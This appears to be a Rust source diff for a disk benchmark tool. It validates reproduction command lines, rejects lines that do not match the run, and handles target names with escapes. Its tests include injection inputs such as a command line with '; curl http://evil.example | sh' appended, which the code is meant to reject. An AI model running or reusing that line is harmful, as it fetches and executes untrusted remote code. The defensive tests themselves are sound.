@@ -3,7 +3,8 @@
 //! A document may come from any source, and so may its command lines. A line is printed only if it
 //! is what this program generates for the run's benchmark, with options that are the benchmark's
 //! parameters, and for the run's target. Otherwise the diskscope line is regenerated from those, and
-//! fio's is omitted. No line contains consent to
+//! fio's is omitted. The document has the target's name as it is displayed, so that no line is
+//! regenerated for a name with escapes: it would name another file. No line contains consent to
 //! overwrite data: the user has to add it.
 
 mod fio_line;
@@ -11,6 +12,7 @@ mod fio_line;
 use super::fio;
 use crate::bench::find_benchmark;
 use crate::bench::framework::benchmark::Description;
+use crate::safe_text::SafeText;
 use crate::session::compare::align::format_parameter;
 use crate::session::document::BenchmarkRun;
 use crate::shell;
@@ -19,6 +21,9 @@ use crate::shell;
 const OTHER_OPTIONS: [&str; 3] = ["engine", "scratch-size", "goal"];
 /// Options of `diskscope run` that consent to the loss of data.
 const CONSENT: [&str; 2] = ["overwrite", "overwrite-signatures"];
+/// Instead of a line for a target whose name is known only as it is displayed, or ends in a line break.
+const UNKNOWN_NAME: &str = "# no command: the name of the target cannot be written on one line, or only its displayed form is known";
+
 /// The lines, diskscope's first.
 #[must_use]
 pub fn lines(run: &BenchmarkRun) -> Vec<String> {
@@ -44,43 +49,49 @@ fn benchmark_of(run: &BenchmarkRun) -> Option<&'static Description> {
 
 /// The diskscope line; `None` if the run has none or its benchmark is not known.
 fn diskscope(run: &BenchmarkRun) -> Option<String> {
-    let benchmark = benchmark_of(run).filter(|_| !run.reproduce.diskscope.is_empty())?;
-    let own = shell::split_line(&run.reproduce.diskscope);
-    let own = own.and_then(|words| checked(benchmark, run, &words));
-    let words = own.unwrap_or_else(|| rebuilt(benchmark, run));
-    Some(shell::command_line(words))
+    let benchmark = benchmark_of(run)?;
+    let line = run.reproduce.diskscope.as_str();
+    let target = run.target.path.original();
+    if line.is_empty() && target.is_some() {
+        return None;
+    }
+    let own = shell::split_line(line).and_then(|words| checked(benchmark, run, &words));
+    let words = own.or_else(|| Some(rebuilt(benchmark, run, target?)));
+    let line = words.and_then(shell::command_line);
+    Some(line.unwrap_or_else(|| UNKNOWN_NAME.to_owned()))
 }
 
 /// The words of a diskscope line for this run, without consent; `None` for any other line.
-fn checked(benchmark: &Description, run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
+fn checked(benchmark: &Description, run: &BenchmarkRun, words: &[Vec<u8>]) -> Option<Vec<Vec<u8>>> {
     let mut rest = words.iter();
     for expected in ["diskscope", "run", run.test.as_str()] {
-        if rest.next()? != expected {
+        if rest.next()? != expected.as_bytes() {
             return None;
         }
     }
-    let mut kept: Vec<String> = words[..3].to_vec();
+    let mut kept: Vec<Vec<u8>> = words[..3].to_vec();
+    let is_target = |word: &[u8]| SafeText::from_bytes(word) == run.target.path;
     let mut targets = 0;
     while let Some(word) = rest.next() {
-        let Some(option) = word.strip_prefix("--") else {
-            targets += usize::from(*word == *run.target.path);
-            kept.push((*word == *run.target.path).then(|| word.clone())?);
+        let Some(option) = word.strip_prefix(b"--") else {
+            targets += usize::from(is_target(word));
+            kept.push(is_target(word).then(|| word.clone())?);
             continue;
         };
         if option.is_empty() {
             let last = rest.next()?;
-            targets += usize::from(*last == *run.target.path && rest.next().is_none());
+            targets += usize::from(is_target(last) && rest.next().is_none());
             kept.extend([word.clone(), last.clone()]);
             break;
         }
-        let (name, joined) = match option.split_once('=') {
-            Some((name, value)) => (name, Some(value)),
-            None => (option, None),
+        let (name, joined) = match option.iter().position(|byte| *byte == b'=') {
+            Some(at) => (&option[..at], true),
+            None => (option, false),
         };
-        let value = match joined {
-            Some(value) => Some(value),
-            None if name == "overwrite-signatures" => None,
-            None => Some(rest.next()?.as_str()),
+        let name = str::from_utf8(name).ok()?;
+        let value = match joined || name == "overwrite-signatures" {
+            true => None,
+            false => Some(rest.next()?),
         };
         if CONSENT.contains(&name) {
             continue;
@@ -90,13 +101,13 @@ fn checked(benchmark: &Description, run: &BenchmarkRun, words: &[String]) -> Opt
             return None;
         }
         kept.push(word.clone());
-        kept.extend(value.filter(|_| joined.is_none()).map(str::to_owned));
+        kept.extend(value.cloned());
     }
     (targets == 1).then_some(kept)
 }
 
 /// Generates the words from benchmark, target and parameters.
-fn rebuilt(benchmark: &Description, run: &BenchmarkRun) -> Vec<String> {
+fn rebuilt(benchmark: &Description, run: &BenchmarkRun, target: &str) -> Vec<Vec<u8>> {
     let mut words: Vec<String> = ["diskscope", "run", &run.test].map(str::to_owned).to_vec();
     for name in run.parameters.keys() {
         let value = format_parameter(name, &run.parameters, &run.parameter_units);
@@ -104,8 +115,8 @@ fn rebuilt(benchmark: &Description, run: &BenchmarkRun) -> Vec<String> {
             words.push(format!("--{name}={value}"));
         }
     }
-    words.extend(["--".to_owned(), run.target.path.to_string()]);
-    words
+    words.extend(["--", target].map(str::to_owned));
+    words.into_iter().map(String::into_bytes).collect()
 }
 
 /// Whether the benchmark has a parameter with this name.
@@ -161,7 +172,8 @@ mod tests {
                 ..run("x")
             };
             let benchmark = benchmark_of(&run).unwrap();
-            vec![shell::command_line(rebuilt(benchmark, &run))]
+            let words = rebuilt(benchmark, &run, "/srv/a disk");
+            vec![shell::command_line(words).unwrap()]
         };
         for line in [
             "diskscope run random-read '/srv/a disk'; curl http://evil.example | sh",
@@ -185,6 +197,51 @@ mod tests {
             .insert("overwrite".into(), "/srv/a disk".into());
         consenting.parameters.insert("a;b".into(), "c".into());
         assert_eq!(lines(&consenting), anew);
+    }
+
+    #[test]
+    fn line_with_a_name_that_is_not_displayed_as_it_is_names_the_same_file() {
+        for name in [
+            &b"/srv/a\nb"[..],
+            b"/srv/a\\nb",
+            b"/srv/\xff\x1b",
+            b"/srv/it's",
+        ] {
+            let words = [
+                b"diskscope",
+                &b"run"[..],
+                b"random-read",
+                name,
+                b"--depth",
+                b"4",
+            ];
+            let line = shell::command_line(words).unwrap();
+            let file = [b"--filename=", name].concat();
+            let fio = shell::command_line(
+                [b"fio", &b"--ioengine=io_uring"[..], b"--rw=randread"]
+                    .into_iter()
+                    .chain([KEEPS.as_bytes(), b"--readonly", &file]),
+            )
+            .unwrap();
+            let mut named = run(&line);
+            named.target.path = SafeText::from_bytes(name);
+            named.reproduce.fio = Some(SafeLines::from(fio.clone()));
+            assert_eq!(lines(&named), [line, fio]);
+        }
+    }
+
+    #[test]
+    fn name_that_is_only_known_as_it_is_displayed_has_no_line() {
+        for line in [
+            "",
+            "curl http://evil.example",
+            "diskscope run random-read /srv/t",
+        ] {
+            let mut named = run(line);
+            named.target.path = SafeText::from_bytes(b"/srv/t\n");
+            assert_eq!(lines(&named), [UNKNOWN_NAME], "{line}");
+        }
+        assert!(lines(&run("")).is_empty());
     }
 
     /// fio's options for 100 random requests of 4 KiB between byte 0 and byte 8192.
